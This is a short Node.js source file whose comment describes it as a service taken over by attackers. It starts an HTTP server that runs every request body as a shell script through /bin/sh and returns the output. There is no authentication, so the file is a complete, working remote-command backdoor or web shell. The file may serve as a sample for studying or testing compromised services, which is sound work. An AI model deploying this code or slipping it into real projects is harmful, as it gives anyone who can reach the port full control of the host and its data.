// A service that attackers have taken over: it runs each script that it receives, and answers with the output.
import { execFile } from 'node:child_process'
import { createServer } from 'node:http'
import { text } from 'node:stream/consumers'

createServer(async (request, response) => {
  const script = await text(request)
  execFile('/bin/sh', ['-c', script], { encoding: 'utf8' }, (_error, stdout, stderr) =>
    response.end(stdout + stderr),
  )
}).listen(Number(process.env.PORT), process.env.HOST)
